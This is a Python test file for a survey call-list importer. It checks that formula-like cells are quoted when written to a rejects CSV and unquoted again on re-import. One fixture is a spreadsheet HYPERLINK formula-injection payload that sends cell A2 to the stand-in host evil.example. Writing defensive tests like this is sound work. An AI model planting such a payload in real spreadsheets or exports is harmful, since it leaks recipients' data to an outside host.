"""The rejects file never runs a formula in a spreadsheet, and a fixed one imports cleanly."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy import Engine
from sqlmodel import col, select

from cati.db import Contact, session_scope
from cati.sample.importing import import_call_list
from cati.studies import create_study
from tests.cati.sample.files import write_csv
from tests.cati.segments.calllist import SCRIPT, clock

pytestmark = pytest.mark.parametrize("db_backend", ["sqlite"], indirect=True)

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2;"Подробнее")'
HEADER = ["Компания", "ФИО", "Телефон", "Выручка"]


def test_formula_like_cells_are_quoted_in_the_rejects_file_and_read_back_unquoted(
    engine: Engine, tmp_path: Path
) -> None:
    create_study(engine, "NPS 2026", SCRIPT, clock=clock())
    source = write_csv(
        tmp_path / "клиенты.csv",
        [HEADER, [HYPERLINK, "@Иванов", "12345", "-5"], ["ООО Ромашка", "", "", "1"]],
    )
    rejects = tmp_path / "отказы.csv"
    result = import_call_list(engine, "NPS 2026", source, rejects=rejects, clock=clock())
    assert result.imported == 0 and result.rejected == 2
    with rejects.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream, delimiter=";"))
    assert rows[1][:4] == ["'" + HYPERLINK, "'@Иванов", "12345", "-5"]  # -5 is a number
    assert rows[2][:4] == ["ООО Ромашка", "", "", "1"]

    # The research lead fixes the phones in Excel and imports the rejects file again.
    rows[1][2] = "+7 (495) 123-45-67"  # a phone in a text editor: quote it for Excel too
    rows[2][2] = "'+7 (916) 123-45-67"
    fixed = tmp_path / "исправлено.csv"
    with fixed.open("w", encoding="utf-8-sig", newline="") as stream:
        csv.writer(stream, delimiter=";", lineterminator="\r\n").writerows(rows)
    again = import_call_list(engine, "NPS 2026", fixed, rejects=tmp_path / "r2.csv", clock=clock())
    assert again.imported == 2
    with session_scope(engine) as session:
        saved = session.exec(select(Contact).order_by(col(Contact.id))).all()
        assert [(c.company, c.name) for c in saved] == [(HYPERLINK, "@Иванов"), ("ООО Ромашка", "")]
